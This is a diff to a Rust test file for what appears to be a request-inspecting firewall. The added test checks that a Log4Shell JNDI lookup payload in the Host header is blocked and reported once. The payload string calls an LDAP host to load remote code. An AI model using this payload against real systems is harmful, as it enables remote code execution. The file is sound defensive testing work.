@@ -220,6 +220,18 @@ fn l8_every_part_of_a_request_is_inspected() {
     }
 }
 
+/// `Host` goes to logs, too; Envoy shows it as `:authority`, and it is inspected once.
+#[test]
+fn l7_look_ups_are_found_in_the_host() {
+    let jndi = "${jndi:ldap://203.0.113.9/a}";
+    for host in [jndi.to_owned(), format!("shop.example:{jndi}")] {
+        let run = get("/").host(&host).run("{}");
+        assert!(run.blocked_by().starts_with("LOG4SHELL:"), "{run:?}");
+        assert_eq!(run.line()["target"], "header:host");
+        assert_eq!(run.reports[0].entries().len(), 1);
+    }
+}
+
 /// Two quotes, `--`, `;x` or `|x` anywhere were an attack.
 #[test]
 fn l9_what_customers_send_passes() {
